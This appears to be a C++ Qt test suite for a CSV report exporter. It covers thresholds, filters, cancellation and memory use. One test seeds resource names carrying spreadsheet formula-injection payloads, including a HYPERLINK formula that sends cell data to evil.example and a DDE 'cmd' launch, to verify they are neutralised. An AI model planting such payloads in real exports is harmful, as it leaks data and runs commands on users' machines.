// The CSV reports on SQLite and on a real PostgreSQL: the history says which thresholds were in force (configured
// defaults, stored defaults, resource, tag and kind overrides), every filter (range, resources, metrics,
// resolution) selects what it says and countRows() agrees with what is written, hostile resource names survive a
// strict RFC 4180 reader (neutralised where a spreadsheet would evaluate them), a cancel stops the export within
// one progress step, and the memory an export needs does not grow with its size (1 M rows against 100 k).
#include "alerts/alertrule.h"
#include "config/config.h"
#include "report/reportexporter.h"
#include "storage/alertrulestore.h"
#include "storage/database.h"
#include "storage/metricstore.h"

#include "clitestsupport.h"
#include "storagetestsupport.h"

#include <QBuffer>
#include <QDateTime>
#include <QFile>
#include <QIODevice>
#include <QtTest>
#include <atomic>
#include <thread>

#if defined(__SANITIZE_ADDRESS__) // gcc; clang before 15 says so only through __has_feature
#    define OPSDECK_ASAN 1
#elif defined(__has_feature)
#    if __has_feature(address_sanitizer)
#        define OPSDECK_ASAN 1
#    endif
#endif

namespace {

// 2026-11-01T00:00:00Z: a day boundary, so hours and days of the seeded samples are whole buckets.
constexpr qint64 T0 = 1793491200;
constexpr qint64 Step = 300;

struct Seeded
{
    QString name;
    QString kind;
    QStringList tags;
};

// Swallows the report, keeping only its size and its last bytes: what an export costs in memory is then the
// exporter's own.
class DiscardDevice final : public QIODevice
{
public:
    DiscardDevice() { open(QIODevice::WriteOnly); }
    qint64 bytes = 0;
    QByteArray tail;

protected:
    qint64 readData(char *, qint64) override { return -1; }
    qint64 writeData(const char *data, qint64 len) override
    {
        bytes += len;
        tail.append(data + std::max<qint64>(0, len - 256), std::min<qint64>(len, 256));
        tail = tail.right(256);
        return len;
    }
};

qint64 statusKb(const char *key)
{
    QFile f(QStringLiteral("/proc/self/status"));
    if (!f.open(QIODevice::ReadOnly))
        return -1;
    const QByteArray prefix = QByteArray(key) + ':';
    for (const QByteArray &line : f.readAll().split('\n')) {
        if (line.startsWith(prefix))
            return line.mid(prefix.size()).trimmed().split(' ').value(0).toLongLong();
    }
    return -1;
}

// The peak resident set while `work` runs, above the resident set before it, in KiB. Linux resets the peak
// (VmHWM) on "5" > /proc/self/clear_refs; where that is refused, a thread samples VmRSS every millisecond.
qint64 peakGrowthKb(const std::function<void()> &work)
{
    QFile clear(QStringLiteral("/proc/self/clear_refs"));
    const bool resettable = clear.open(QIODevice::WriteOnly) && clear.write("5") == 1;
    clear.close();
    const qint64 before = statusKb("VmRSS");
    std::atomic<bool> done { false };
    std::atomic<qint64> sampled { before };
    std::thread sampler;
    if (!resettable) {
        sampler = std::thread([&] {
            while (!done) {
                sampled = std::max<qint64>(sampled, statusKb("VmRSS"));
                std::this_thread::sleep_for(std::chrono::milliseconds(1));
            }
        });
    }
    work();
    done = true;
    if (sampler.joinable())
        sampler.join();
    return (resettable ? statusKb("VmHWM") : sampled.load()) - before;
}

double valueAt(int resource, Metric metric, qint64 i)
{
    return double((i * 37 + resource * 11 + int(metric) * 5) % 1000) / 10.0;
}

QString iso(qint64 ts)
{
    return QDateTime::fromSecsSinceEpoch(ts, Qt::UTC).toString(Qt::ISODate);
}

} // namespace

class tst_ReportExporter : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void cleanup();

    void thresholdColumns_data() { TestDatabases::addBackendRows(); }
    void thresholdColumns();
    void filters_data();
    void filters();
    void hostileNamesRoundTrip_data() { TestDatabases::addBackendRows(); }
    void hostileNamesRoundTrip();
    void cancelStopsWithinOneStep_data() { TestDatabases::addBackendRows(); }
    void cancelStopsWithinOneStep();
    void memoryStaysFlat_data() { TestDatabases::addBackendRows(); }
    void memoryStaysFlat();

private:
    bool openFresh();
    // Resources of source `source`, each with `perSeries` samples per metric every 5 minutes from T0.
    bool seed(const QList<Seeded> &resources, qint64 perSeries, const QString &source = QStringLiteral("src"));
    std::optional<QList<QStringList>> exportCsv(const ExportRequest &request, qint64 *counted = nullptr);

    TestDatabases m_databases { "reportexporter" };
    QSqlDatabase m_db;
    QString m_connection = QStringLiteral("tst_reportexporter");
};

void tst_ReportExporter::cleanup()
{
    m_db = QSqlDatabase();
    Database::close(m_connection);
}

bool tst_ReportExporter::openFresh()
{
    QFETCH(QString, backend);
    if (TestDatabases::skipUnavailable(backend))
        return false;
    QString error;
    const auto db = Database::open(*DatabaseUrl::parse(m_databases.freshUrl(backend)), m_connection, &error);
    if (!db)
        qFatal("cannot open a %s cache: %s", qPrintable(backend), qPrintable(error));
    m_db = *db;
    return true;
}

bool tst_ReportExporter::seed(const QList<Seeded> &resources, qint64 perSeries, const QString &source)
{
    MetricStore store(m_db);
    QList<ResourceInfo> infos;
    for (const Seeded &s : resources) {
        ResourceInfo info;
        info.externalId = QStringLiteral("id-%1").arg(infos.size());
        info.name = s.name;
        info.kind = s.kind;
        info.tags = s.tags;
        info.status = QStringLiteral("active");
        infos << info;
    }
    if (!store.transaction())
        return false;
    const auto ids = store.upsertResources(source, infos, T0);
    if (!ids || !store.commit()) {
        qWarning().noquote() << store.lastError();
        return false;
    }
    // Batches as a sync flushes them, so a million rows never sit in one list.
    QList<SampleRow> batch;
    auto flush = [&] {
        const bool ok = store.transaction() && store.writeSamples(batch) == batch.size() && store.commit();
        if (!ok)
            qWarning().noquote() << store.lastError();
        batch.clear();
        return ok;
    };
    for (int r = 0; r < infos.size(); ++r) {
        for (Metric m : AllMetrics) {
            for (qint64 i = 0; i < perSeries; ++i) {
                batch.append(SampleRow { ids->value(infos.at(r).externalId), m, T0 + i * Step, valueAt(r, m, i) });
                if (batch.size() == 50000 && !flush())
                    return false;
            }
        }
    }
    return batch.isEmpty() || flush();
}

std::optional<QList<QStringList>> tst_ReportExporter::exportCsv(const ExportRequest &request, qint64 *counted)
{
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    ReportExporter exporter(m_db);
    if (!exporter.write(request, &buffer)) {
        qWarning().noquote() << exporter.lastError();
        return std::nullopt;
    }
    QString error;
    auto rows = parseCsv(buffer.data(), &error);
    if (!rows) {
        qWarning().noquote() << error;
        return std::nullopt;
    }
    if (rows->size() != exporter.rowsWritten() + 1) {
        qWarning() << "rowsWritten" << exporter.rowsWritten() << "but" << rows->size() - 1 << "data rows";
        return std::nullopt;
    }
    if (counted) {
        const auto n = exporter.countRows(request);
        *counted = n.value_or(-1);
    }
    return rows;
}

// Every history row carries the thresholds AlertRuleSet::ruleFor gives its resource and metric: [alerts] first, a
// default stored from the Thresholds dialog over it, then kind < tag < resource overrides.
void tst_ReportExporter::thresholdColumns()
{
    if (!openFresh())
        QSKIP("no PostgreSQL server (OPSDECK_TEST_PG_URL)");
    QVERIFY(
        seed({ { QStringLiteral("web-1"), QStringLiteral("droplet"), { QStringLiteral("prod") } },
               { QStringLiteral("web-2"), QStringLiteral("droplet"), { QStringLiteral("prod"), QStringLiteral("eu") } },
               { QStringLiteral("db-1"), QStringLiteral("database"), {} },
               { QStringLiteral("app-1"), QStringLiteral("app"), { QStringLiteral("staging") } } },
             24));

    AlertConfig configured;
    configured.thresholds[Metric::Cpu] = { 70, 85 };
    AlertRuleSet stored(configured);
    AlertRule disk = stored.defaultRule(Metric::Disk);
    disk.warning = 82;
    disk.critical = 93; // a default set in the dialog replaces the configured one
    stored.setDefaultRule(disk);
    auto add = [&](AlertScope scope, const QString &target, Metric metric, std::optional<double> warning,
                   std::optional<double> critical) {
        AlertOverride o;
        o.scope = scope;
        o.target = target;
        o.metric = metric;
        o.warning = warning;
        o.critical = critical;
        stored.addOverride(o);
    };
    add(AlertScope::Kind, QStringLiteral("database"), Metric::Cpu, 50, 60);
    add(AlertScope::Tag, QStringLiteral("prod"), Metric::Memory, std::nullopt, 91); // warning falls through
    add(AlertScope::Tag, QStringLiteral("eu"), Metric::Memory, 75, std::nullopt);
    add(AlertScope::Resource, QStringLiteral("web-1"), Metric::Cpu, 65, 75);
    add(AlertScope::Kind, QStringLiteral("droplet"), Metric::Cpu, 60, 72); // web-1's own override wins over it
    QVERIFY2(stored.validate().isEmpty(), qPrintable(stored.validate().join(QLatin1Char('\n'))));
    AlertRuleStore store(m_db);
    QVERIFY2(store.save(stored), qPrintable(store.lastError()));

    // resource → metric → (warning, critical)
    const QMap<QString, QMap<QString, QStringList>> expected {
        { QStringLiteral("web-1"),
          { { QStringLiteral("cpu"), { QStringLiteral("65.00"), QStringLiteral("75.00") } },
            { QStringLiteral("memory"), { QStringLiteral("85.00"), QStringLiteral("91.00") } },
            { QStringLiteral("disk"), { QStringLiteral("82.00"), QStringLiteral("93.00") } } } },
        { QStringLiteral("web-2"),
          { { QStringLiteral("cpu"), { QStringLiteral("60.00"), QStringLiteral("72.00") } },
            { QStringLiteral("memory"), { QStringLiteral("75.00"), QStringLiteral("91.00") } },
            { QStringLiteral("disk"), { QStringLiteral("82.00"), QStringLiteral("93.00") } } } },
        { QStringLiteral("db-1"),
          { { QStringLiteral("cpu"), { QStringLiteral("50.00"), QStringLiteral("60.00") } },
            { QStringLiteral("memory"), { QStringLiteral("85.00"), QStringLiteral("95.00") } },
            { QStringLiteral("disk"), { QStringLiteral("82.00"), QStringLiteral("93.00") } } } },
        { QStringLiteral("app-1"),
          { { QStringLiteral("cpu"), { QStringLiteral("70.00"), QStringLiteral("85.00") } },
            { QStringLiteral("memory"), { QStringLiteral("85.00"), QStringLiteral("95.00") } },
            { QStringLiteral("disk"), { QStringLiteral("82.00"), QStringLiteral("93.00") } } } },
    };
    for (const char *resolution : { "raw", "hour", "day" }) {
        ExportRequest request;
        request.report = QStringLiteral("history");
        request.resolution = QString::fromLatin1(resolution);
        request.alerts = configured;
        const auto rows = exportCsv(request);
        QVERIFY(rows);
        const QStringList header = rows->value(0);
        QCOMPARE(header.mid(header.size() - 2),
                 (QStringList { QStringLiteral("warning"), QStringLiteral("critical") }));
        QCOMPARE(header, ReportExporter::header(QStringLiteral("history"), request.resolution));
        QSet<QString> seen;
        for (qsizetype i = 1; i < rows->size(); ++i) {
            const QStringList &row = rows->at(i);
            const QString line = QString::fromLatin1(resolution) + QLatin1String(": ") + row.join(QLatin1Char(','));
            QCOMPARE(row.size(), header.size());
            QVERIFY2(row.mid(row.size() - 2) == expected.value(row.at(1)).value(row.at(4)), qPrintable(line));
            seen << row.at(1) + QLatin1Char('/') + row.at(4);
        }
        QCOMPARE(seen.size(), 12); // every resource and metric was checked
    }
}

void tst_ReportExporter::filters_data()
{
    QTest::addColumn<QString>("backend");
    QTest::addColumn<QString>("resolution");
    QTest::addColumn<qint64>("from"); // seconds after T0; -1: no bound
    QTest::addColumn<qint64>("to");
    QTest::addColumn<QStringList>("resources");
    QTest::addColumn<QStringList>("metrics");
    QTest::addColumn<QStringList>("expectedSeries"); // "resource/metric", in file order
    QTest::addColumn<qint64>("rowsPerSeries");
    QTest::addColumn<qint64>("samplesPerSeries"); // the sum of the count column (rollups) or rowsPerSeries

    const QStringList all { QStringLiteral("db-1/cpu"),  QStringLiteral("db-1/memory"),  QStringLiteral("db-1/disk"),
                            QStringLiteral("web-1/cpu"), QStringLiteral("web-1/memory"), QStringLiteral("web-1/disk"),
                            QStringLiteral("web-2/cpu"), QStringLiteral("web-2/memory"), QStringLiteral("web-2/disk") };
    const QStringList none;
    // Three hours of 5-minute samples per series: 36.
    for (const char *backend : { "sqlite", "postgresql" }) {
        const QString b = QString::fromLatin1(backend);
        QTest::addRow("%s everything", backend)
            << b << "raw" << qint64(-1) << qint64(-1) << none << none << all << qint64(36) << qint64(36);
        QTest::addRow("%s second hour", backend)
            << b << "raw" << qint64(3600) << qint64(7200) << none << none << all << qint64(12) << qint64(12);
        QTest::addRow("%s one resource", backend)
            << b << "raw" << qint64(-1) << qint64(-1) << QStringList { QStringLiteral("web-2") } << none
            << QStringList { QStringLiteral("web-2/cpu"), QStringLiteral("web-2/memory"), QStringLiteral("web-2/disk") }
            << qint64(36) << qint64(36);
        QTest::addRow("%s disk and cpu of two", backend)
            << b << "raw" << qint64(-1) << qint64(-1) << QStringList { QStringLiteral("web-1"), QStringLiteral("db-1") }
            << QStringList { QStringLiteral("disk"), QStringLiteral("cpu") }
            << QStringList { QStringLiteral("db-1/disk"), QStringLiteral("db-1/cpu"), QStringLiteral("web-1/disk"),
                             QStringLiteral("web-1/cpu") }
            << qint64(36) << qint64(36);
        QTest::addRow("%s hourly", backend)
            << b << "hour" << qint64(-1) << qint64(-1) << none << none << all << qint64(3) << qint64(36);
        // A bucket is in when any part of it is: 01:30–02:30 touches the second and third hour.
        QTest::addRow("%s hourly, range inside buckets", backend)
            << b << "hour" << qint64(5400) << qint64(9000) << none << none << all << qint64(2) << qint64(24);
        QTest::addRow("%s daily, memory", backend)
            << b << "day" << qint64(-1) << qint64(-1) << none << QStringList { QStringLiteral("memory") }
            << QStringList { QStringLiteral("db-1/memory"), QStringLiteral("web-1/memory"),
                             QStringLiteral("web-2/memory") }
            << qint64(1) << qint64(36);
        QTest::addRow("%s range after the data", backend)
            << b << "raw" << qint64(86400) << qint64(-1) << none << none << none << qint64(0) << qint64(0);
    }
}

void tst_ReportExporter::filters()
{
    QFETCH(QString, resolution);
    QFETCH(qint64, from);
    QFETCH(qint64, to);
    QFETCH(QStringList, resources);
    QFETCH(QStringList, metrics);
    QFETCH(QStringList, expectedSeries);
    QFETCH(qint64, rowsPerSeries);
    QFETCH(qint64, samplesPerSeries);
    if (!openFresh())
        QSKIP("no PostgreSQL server (OPSDECK_TEST_PG_URL)");
    QVERIFY(seed({ { QStringLiteral("web-2"), QStringLiteral("droplet"), {} },
                   { QStringLiteral("db-1"), QStringLiteral("database"), {} },
                   { QStringLiteral("web-1"), QStringLiteral("droplet"), {} } },
                 36));

    ExportRequest request;
    request.report = QStringLiteral("history");
    request.resolution = resolution;
    if (from >= 0)
        request.from = T0 + from;
    if (to >= 0)
        request.to = T0 + to;
    request.resources = resources;
    for (const QString &m : std::as_const(metrics))
        request.metrics << *metricFromName(m);
    qint64 counted = -2;
    const auto rows = exportCsv(request, &counted);
    QVERIFY(rows);
    QCOMPARE(rows->value(0), ReportExporter::header(QStringLiteral("history"), resolution));
    const bool raw = resolution == QLatin1String("raw");
    const qint64 period = resolution == QLatin1String("day") ? 86400 : 3600;

    QStringList series; // in file order, each once
    QMap<QString, qint64> rowCount, sampleCount;
    for (qsizetype i = 1; i < rows->size(); ++i) {
        const QStringList &row = rows->at(i);
        const QString line = row.join(QLatin1Char(','));
        const QString key = row.at(1) + QLatin1Char('/') + row.at(4);
        if (series.isEmpty() || series.constLast() != key)
            series << key;
        ++rowCount[key];
        QVERIFY2(isIsoUtcSeconds(row.at(0)), qPrintable(line));
        const qint64 ts = QDateTime::fromString(row.at(0), Qt::ISODate).toSecsSinceEpoch();
        if (raw) {
            QVERIFY2(!request.from || ts >= *request.from, qPrintable(line));
            QVERIFY2(!request.to || ts < *request.to, qPrintable(line));
            ++sampleCount[key];
        } else {
            QVERIFY2(ts % period == 0, qPrintable(line));
            QVERIFY2(!request.from || ts + period > *request.from, qPrintable(line));
            QVERIFY2(!request.to || ts < *request.to, qPrintable(line));
            sampleCount[key] += row.at(8).toLongLong();
        }
    }
    QCOMPARE(series, expectedSeries);
    for (const QString &key : std::as_const(expectedSeries)) {
        QCOMPARE(rowCount.value(key), rowsPerSeries);
        QCOMPARE(sampleCount.value(key), samplesPerSeries);
    }
    QCOMPARE(counted, qint64(rows->size() - 1));
}

// Names come from providers and users: whatever they hold, the file parses strictly, every cell comes back as it
// was, and what a spreadsheet would evaluate comes back behind a single quote.
void tst_ReportExporter::hostileNamesRoundTrip()
{
    if (!openFresh())
        QSKIP("no PostgreSQL server (OPSDECK_TEST_PG_URL)");
    const QStringList names { QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
                              QStringLiteral("web,01"),
                              QStringLiteral("say \"hi\""),
                              QStringLiteral("line1\nline2"),
                              QStringLiteral("crlf\r\ninside"),
                              QStringLiteral("🔥 db-ü 東京"),
                              QStringLiteral("+cmd|' /C calc'!A0"),
                              QStringLiteral("-2+3"),
                              QStringLiteral("@SUM(A1:A9)"),
                              QStringLiteral("\tlead-tab"),
                              QStringLiteral("-42"),
                              QStringLiteral("plain") };
    QList<Seeded> resources;
    for (const QString &name : names)
        resources << Seeded { name, QStringLiteral("host"), {} };
    const QString source = QStringLiteral("=src,\"x\"");
    QVERIFY(seed(resources, 3, source));
    auto shown = [](const QString &cell) {
        static const QStringList neutralised { QStringLiteral("="), QStringLiteral("+"), QStringLiteral("@"),
                                               QStringLiteral("\t") };
        const bool formula = std::any_of(neutralised.cbegin(), neutralised.cend(),
                                         [&](const QString &p) { return cell.startsWith(p); })
            || cell == QLatin1String("-2+3");
        return formula ? QLatin1Char('\'') + cell : cell;
    };

    for (const QString &report : { QStringLiteral("history"), QStringLiteral("resources") }) {
        ExportRequest request;
        request.report = report;
        QBuffer buffer;
        buffer.open(QIODevice::WriteOnly);
        ReportExporter exporter(m_db);
        QVERIFY2(exporter.write(request, &buffer), qPrintable(exporter.lastError()));
        QVERIFY(!buffer.data().startsWith("\xEF\xBB\xBF"));
        QVERIFY(buffer.data().contains("\xF0\x9F\x94\xA5 db-\xC3\xBC \xE6\x9D\xB1\xE4\xBA\xAC")); // UTF-8 as is
        QString error;
        const auto rows = parseCsv(buffer.data(), &error);
        QVERIFY2(rows, qPrintable(error));
        QCOMPARE(rows->size(), report == QLatin1String("history") ? 1 + names.size() * 9 : 1 + names.size());
        QSet<QString> seenNames;
        const QStringList header = rows->value(0);
        for (qsizetype i = 1; i < rows->size(); ++i) {
            const QStringList &row = rows->at(i);
            QCOMPARE(row.size(), header.size());
            const QString name = row.at(header.indexOf(QStringLiteral("resource")));
            seenNames << name;
            QCOMPARE(row.at(header.indexOf(QStringLiteral("source"))), QLatin1Char('\'') + source);
        }
        QSet<QString> expected;
        for (const QString &name : names)
            expected << shown(name);
        QCOMPARE(seenNames, expected);
        QVERIFY(seenNames.contains(QStringLiteral("-42"))); // a number stays a number
    }
}

// A progress callback that says no stops the export at once; the caller then throws the partial output away.
void tst_ReportExporter::cancelStopsWithinOneStep()
{
    if (!openFresh())
        QSKIP("no PostgreSQL server (OPSDECK_TEST_PG_URL)");
    QVERIFY(seed(
        { { QStringLiteral("a"), QStringLiteral("host"), {} }, { QStringLiteral("b"), QStringLiteral("host"), {} } },
        5000)); // 30,000 rows
    ExportRequest request;
    request.report = QStringLiteral("history");
    DiscardDevice device;
    ReportExporter exporter(m_db);
    QList<qint64> calls;
    exporter.setProgress([&](qint64 rows) {
        calls << rows;
        return calls.size() < 2;
    });
    QVERIFY(!exporter.write(request, &device));
    QVERIFY(exporter.wasCancelled());
    QVERIFY(!exporter.isUsageError());
    QVERIFY2(exporter.lastError().contains(QLatin1String("cancel")), qPrintable(exporter.lastError()));
    QCOMPARE(calls.size(), 2);
    QVERIFY(calls.at(0) > 0 && calls.at(0) < calls.at(1));
    QCOMPARE(exporter.rowsWritten(), calls.at(1)); // not one row more
    QVERIFY(device.bytes < 30000 * 40);

    // Without the callback saying no, the same exporter writes everything.
    exporter.setProgress([](qint64) { return true; });
    DiscardDevice full;
    QVERIFY2(exporter.write(request, &full), qPrintable(exporter.lastError()));
    QVERIFY(!exporter.wasCancelled());
    QCOMPARE(exporter.rowsWritten(), 30000);
}

// An export streams: a million rows need no more memory than a hundred thousand. Collecting the rows (or the
// file) anywhere on the way would cost hundreds of MB here.
void tst_ReportExporter::memoryStaysFlat()
{
#ifdef OPSDECK_ASAN
    QSKIP("AddressSanitizer keeps freed memory in quarantine (up to 256 MB): RSS does not measure the exporter");
#endif
    if (!openFresh())
        QSKIP("no PostgreSQL server (OPSDECK_TEST_PG_URL)");
    QList<Seeded> resources;
    for (int i = 0; i < 40; ++i)
        resources << Seeded { QStringLiteral("host-%1").arg(i, 2, 10, QLatin1Char('0')), QStringLiteral("host"), {} };
    constexpr qint64 PerSeries = 8334; // 40 × 3 × 8334 = 1,000,080 rows
    QVERIFY(seed(resources, PerSeries));

    auto measure = [&](const QStringList &names, qint64 *rows, qint64 *bytes, QByteArray *tail) {
        ExportRequest request;
        request.report = QStringLiteral("history");
        request.resources = names;
        return peakGrowthKb([&] {
            DiscardDevice device;
            ReportExporter exporter(m_db);
            if (!exporter.write(request, &device))
                qWarning().noquote() << exporter.lastError();
            *rows = exporter.rowsWritten();
            *bytes = device.bytes;
            *tail = device.tail;
        });
    };
    // The instrument itself: 64 MB held for a moment must show (a list of a million rows would be several times that).
    const qint64 probe = peakGrowthKb([] {
        QByteArray held(64 * 1024 * 1024, 'x');
        QVERIFY(held.count('x') == held.size());
    });
    QVERIFY2(probe > 60 * 1024, qPrintable(QString::number(probe)));

    QStringList tenth;
    for (int i = 0; i < 4; ++i)
        tenth << resources.at(i).name;
    qint64 rows = 0, bytes = 0;
    QByteArray tail;
    measure(tenth, &rows, &bytes, &tail); // warm-up: statement caches, the driver's first allocations
    const qint64 small = measure(tenth, &rows, &bytes, &tail);
    QCOMPARE(rows, 4 * 3 * PerSeries);
    const qint64 smallBytes = bytes;
    const qint64 large = measure({}, &rows, &bytes, &tail);
    QCOMPARE(rows, 40 * 3 * PerSeries);
    QVERIFY(bytes > 9 * smallBytes);
    // The last row is complete: host-39's disk, the last sample.
    QVERIFY2(tail.endsWith(QStringLiteral("%1,host-39,host,src,disk,%2,80.00,90.00\r\n")
                               .arg(iso(T0 + (PerSeries - 1) * Step),
                                    QString::number(valueAt(39, Metric::Disk, PerSeries - 1), 'f', 2))
                               .toUtf8()),
             tail.constData());
    qInfo("peak RSS growth: %lld KiB for %lld rows (%.0f MB of CSV), %lld KiB for a tenth", large, rows,
          double(bytes) / 1e6, small);
    QVERIFY2(large - small < 8 * 1024,
             qPrintable(QStringLiteral("1 M rows took %1 KiB more than 100 k").arg(large - small)));
}

QTEST_GUILESS_MAIN(tst_ReportExporter)
#include "tst_reportexporter.moc"
